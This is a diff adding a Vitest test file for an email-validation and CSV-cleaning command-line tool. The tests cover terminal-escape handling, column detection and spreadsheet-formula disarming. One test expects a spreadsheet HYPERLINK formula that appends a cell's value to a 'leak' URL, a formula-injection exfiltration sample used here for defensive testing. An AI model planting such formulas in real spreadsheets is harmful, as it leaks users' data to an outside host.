@@ -1,0 +1,253 @@
+import { readFileSync } from 'node:fs'
+import { readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { describe, expect, test } from 'vitest'
+import { writeBigCsv } from './support/big-csv.ts'
+import { makeFolder } from './support/folder.ts'
+import { EXAMPLE, jsonLines, mailsift, mailsiftBytes } from './support/mailsift.ts'
+
+/** One row for every kind of answer. */
+const CSV = 'name,email\nAda,ada.lovelace@example.com\nDesk,info@example.com\nNobody,nobody\nRagged\n'
+
+describe('validate --local', () => {
+  test('says of each address what it is, in the order given', async () => {
+    const { code, stdout, stderr } = await mailsift([
+      'validate',
+      '--local',
+      'ada.lovelace@example.com',
+      'info@mailinator.com',
+      'nobody',
+    ])
+    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
+    expect(stdout).toBe(
+      'safe       ada.lovelace@example.com\n' +
+        'unsafe     info@mailinator.com  disposable, role-based\n' +
+        'malformed  nobody  The address has no @ sign.\n',
+    )
+  })
+
+  test('reads stdin for -, line by line, without blank lines', async () => {
+    const input = 'ada.lovelace@example.com\r\n\n  info@example.com\nnobody'
+    const { code, stdout } = await mailsift(['validate', '--local', '--json', '-'], { input })
+    expect(code).toBe(0)
+    expect(jsonLines(stdout)).toMatchObject([
+      { index: 0, input: 'ada.lovelace@example.com', error: null, result: { validations: { safe_to_send: true } } },
+      { index: 1, input: '  info@example.com', error: null, result: { inbound: 'info@example.com' } },
+      { index: 2, input: 'nobody', error: { code: 'invalid_email' }, result: null },
+    ])
+  })
+
+  test('answers a line while the next one is still being typed', async () => {
+    const { spawn } = await import('node:child_process')
+    const { MAIN, CLEAN_ENV } = await import('./support/mailsift.ts')
+    const child = spawn(process.execPath, [MAIN, 'validate', '--local', '-'], { env: CLEAN_ENV })
+    const answer = new Promise<string>((resolve) => child.stdout.setEncoding('utf8').once('data', resolve))
+    child.stdin.write('ada.lovelace@example.com\n')
+    expect(await answer).toMatch(/^safe /)
+    child.stdin.end()
+    expect(await new Promise((resolve) => child.once('close', resolve))).toBe(0)
+  })
+
+  test('--explain names the rule or list behind each reason', async () => {
+    const { stdout } = await mailsift(['validate', '--local', '--explain', 'info@mailinator.com'])
+    expect(stdout).toMatch(/^ {2}disposable +mailinator\.com gives out throw-away inboxes\. \(lists: .*mailchecker/m)
+    expect(stdout).toMatch(/^ {2}role_based +It names a function, not a person\./m)
+    const json = await mailsift(['validate', '--local', '--explain', '--json', 'info@mailinator.com'])
+    expect(jsonLines(json.stdout)[0].reasons.map(({ code }: { code: string }) => code)).toEqual([
+      'disposable',
+      'role_based',
+    ])
+  })
+
+  test('shows what a terminal would obey instead of sending it there', async () => {
+    const { stdout } = await mailsift(['validate', '--local', 'a\x1b[2J\u202eb'])
+    expect(stdout).toMatch(/^malformed {2}a\\u\{1b\}\[2J\\u\{202e\}b {2}/)
+  })
+
+  test.for([
+    ['ada.lovelace@example.com', 0],
+    ['info@example.com', 10],
+    ['nobody', 10],
+  ] as const)('--fail-on unsafe ends with the exit code of %s', async ([address, expected]) => {
+    expect((await mailsift(['validate', '--local', '--fail-on', 'unsafe', address])).code).toBe(expected)
+  })
+})
+
+describe('clean --local', () => {
+  const clean = (args: string[], input: string | Buffer = CSV) =>
+    mailsift(['clean', '--local', '-', ...args], { input })
+
+  test('gives every row back as it was, with its answer', async () => {
+    const { code, stdout, stderr } = await clean([])
+    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
+    const [header, ...rows] = parse(stdout, { relax_column_count: true }) as string[][]
+    expect(header!.slice(0, 4)).toEqual(['name', 'email', 'service.error.code', 'service.error.message'])
+    const safe = header!.indexOf('service.validations.safe_to_send')
+    expect(rows.map((row) => [row[0], row[safe]])).toEqual([
+      ['Ada', 'true'],
+      ['Desk', 'false'],
+      ['Nobody', ''],
+      ['Ragged', ''],
+    ])
+    expect(rows[2]![2]).toBe('invalid_email')
+    expect(rows[3]![1]).toBe('malformed_row')
+  })
+
+  test('--only safe leaves the rows out that are not', async () => {
+    const { stdout } = await clean(['--only', 'safe'])
+    expect(stdout.split('\n').map((line) => line.split(',')[0])).toEqual(['name', 'Ada', ''])
+  })
+
+  test('a ragged row is never safe, whatever stands where the answer would', async () => {
+    const ragged = `a,${'true,'.repeat(40)}true\n`
+    const { stdout } = await clean(['--column', 'email', '--only', 'safe'], `name,email\n${ragged}`)
+    expect(stdout.trimEnd().split('\n').length).toBe(1)
+  })
+
+  test('-o writes the file, and --json the counts', async () => {
+    const folder = await makeFolder()
+    const output = join(folder, 'out.csv')
+    const { code, stdout } = await clean(['-o', output, '--only', 'safe', '--json'])
+    expect(code).toBe(0)
+    expect(JSON.parse(stdout)).toEqual({
+      group: null,
+      status: 'completed',
+      rows: 4,
+      safe: 1,
+      unsafe: 1,
+      errors: 2,
+      written: 1,
+      output,
+    })
+    expect((await readFile(output, 'utf8')).split('\n').length).toBe(3)
+    expect(await readdir(folder)).toEqual(['out.csv'])
+  })
+
+  test('a file that fails in the middle leaves no output and no other trace', async () => {
+    const folder = await makeFolder()
+    const broken = `name,email\n${'Ada,ada@example.com\n'.repeat(50_000)}"never closed\n`
+    const { code, stderr } = await clean(['-o', join(folder, 'out.csv')], broken)
+    expect(code).toBe(2)
+    expect(stderr).toMatch(/Line 50002: the quote opened here is never closed/)
+    expect(await readdir(folder)).toEqual([])
+  })
+
+  test('the output may be the input, a link to it, or a device', async () => {
+    const folder = await makeFolder()
+    const file = join(folder, 'in.csv')
+    await writeFile(file, CSV, { mode: 0o600 })
+    await symlink(file, join(folder, 'link.csv'))
+    expect((await mailsift(['clean', '--local', file, '-o', join(folder, 'link.csv')])).code).toBe(0)
+    expect(await readFile(file, 'utf8')).toMatch(/^name,email,service\.error\.code/)
+    expect((await stat(file)).mode & 0o777).toBe(0o600)
+    expect((await mailsift(['clean', '--local', file, '-o', '/dev/null'])).code).toBe(0)
+    expect((await stat('/dev/null')).isCharacterDevice()).toBe(true)
+  })
+
+  test('--fail-on unsafe ends with 10 when a row is not safe', async () => {
+    expect((await clean(['--fail-on', 'unsafe'])).code).toBe(10)
+    expect((await clean(['--fail-on', 'unsafe'], 'email\nada.lovelace@example.com\n')).code).toBe(0)
+  })
+
+  test('whoever stops reading early ends it quietly', async () => {
+    const { execFile } = await import('node:child_process')
+    const { MAIN, CLEAN_ENV } = await import('./support/mailsift.ts')
+    const file = join(await makeFolder(), 'in.csv')
+    await writeBigCsv(file, { rows: 20_000 })
+    const line = `"$0" "$1" clean --local "$2" | head -n 1`
+    const args = ['-c', line, process.execPath, MAIN, file]
+    const { stdout, stderr } = await new Promise<{ stdout: string; stderr: string }>((resolve) =>
+      execFile('sh', args, { env: CLEAN_ENV }, (_error, stdout, stderr) => resolve({ stdout, stderr })),
+    )
+    expect(stdout.split('\n').length).toBe(2)
+    expect(stderr).toBe('')
+  })
+
+  test('100,000 rows', async () => {
+    const folder = await makeFolder()
+    const file = join(folder, 'in.csv')
+    await writeBigCsv(file, { rows: 100_000 })
+    const args = ['clean', '--local', file, '-o', join(folder, 'out.csv'), '--json']
+    const started = performance.now()
+    const { code, stdout } = await mailsift(args)
+    console.info(`clean --local of 100,000 rows: ${((performance.now() - started) / 1000).toFixed(1)} s`)
+    expect(code).toBe(0)
+    expect(JSON.parse(stdout)).toMatchObject({ rows: 100_000, written: 100_000, errors: 0 })
+  })
+})
+
+describe('the column of the addresses', () => {
+  const columnOf = async (input: string, args: string[] = []) => {
+    const { code, stdout, stderr } = await mailsift(['clean', '--local', '-', ...args], { input })
+    if (code !== 0) return stderr
+    const options = { columns: true, relax_column_count: true, skip_empty_lines: true, delimiter: [',', ';'] }
+    const [first] = parse(stdout, options) as unknown as Record<string, string>[]
+    return Object.entries(first!).findLast(([name]) => /^service\d*\.inbound$/.test(name))?.[1]
+  }
+
+  test.for([
+    ['by its cells, whatever its name', 'a;b\n1;x@example.com\n', 'x@example.com'],
+    ['by its name, when no cell tells', 'name,E-Mail\nAda,\nBob,\n', ''],
+    ['past cells that are no addresses', 'email\n\nx@example.com\nx@example.org\nnone\n', 'x@example.com'],
+    [
+      'beside the answers of an earlier cleaning',
+      'mail,service.inbound\nx@example.com,y@example.com\n',
+      'x@example.com',
+    ],
+    ['behind a byte order mark', '\ufeffemail,name\nx@example.com,A\n', 'x@example.com'],
+  ] as const)('is found %s', async ([, input, expected]) => {
+    expect(await columnOf(input)).toBe(expected)
+  })
+
+  test('is taken as it is named', async () => {
+    const two = 'home,work\nh@example.com,w@example.com\n'
+    expect(await columnOf(two, ['--column', 'work'])).toBe('w@example.com')
+    expect(await columnOf(two, ['-c', 'home'])).toBe('h@example.com')
+  })
+
+  test.for([
+    [
+      'of several, the choices are told',
+      'home,work,city\nh@example.com,w@example.com,X\n',
+      [],
+      /--column.*"home", "work"\./,
+    ],
+    ['of none, all columns are told', 'a,b\n1,2\n', [], /--column.*"a", "b"\./],
+    ['of another name, all columns are told', 'a,b\n1,2\n', ['-c', 'A'], /no column "A".*"a", "b"\./],
+    [
+      'of a file without a header, that is told',
+      'x@example.com\ny@example.com\n',
+      [],
+      /first line must name the columns/,
+    ],
+    ['of an empty file, that is told', '', [], /stdin is empty/],
+  ] as const)('%s', async ([, input, args, complaint]) => {
+    expect(await columnOf(input, [...args])).toMatch(complaint)
+  })
+})
+
+describe('the example file', () => {
+  const rows = parse(readFileSync(EXAMPLE), { columns: true, relax_column_count: true }) as Record<string, string>[]
+
+  test('has 200 rows of every kind', async () => {
+    const { code, stdout } = await mailsiftBytes(['clean', '--local', EXAMPLE])
+    expect(code).toBe(0)
+    const cleaned = parse(stdout, { columns: true, relax_column_count: true }) as Record<string, string>[]
+    expect(cleaned.length).toBe(200)
+    const flags = ['is_disposable', 'has_label', 'is_subdomain', 'is_no_reply', 'is_role_based']
+    for (const flag of [...flags, 'has_irregular_pattern', 'has_uncommon_unicode', 'safe_to_send'])
+      expect(cleaned.filter((row) => row[`service.validations.${flag}`] === 'true').length).toBeGreaterThan(1)
+    expect(cleaned.filter((row) => row['service.error.code'] === 'invalid_email').length).toBeGreaterThan(10)
+    expect(new Set(rows.map((row) => row['E-Mail'])).size).toBeLessThan(195)
+    expect(rows.some((row) => row.Notes?.includes('\n'))).toBe(true)
+    expect(rows.some((row) => row.Notes?.startsWith('='))).toBe(true)
+    expect(rows.some((row) => /[^\p{ASCII}]/u.test(row['E-Mail']!))).toBe(true)
+  })
+
+  test('a formula of ours is disarmed, one of theirs stays theirs', async () => {
+    const { stdout } = await mailsift(['clean', '--local', EXAMPLE])
+    expect(stdout).toContain('"=HYPERLINK(""http://example.com/?leak=""&A1,""Open invoice"")"')
+    expect(stdout).toContain(",'=sum@example.com,")
+  })
+})
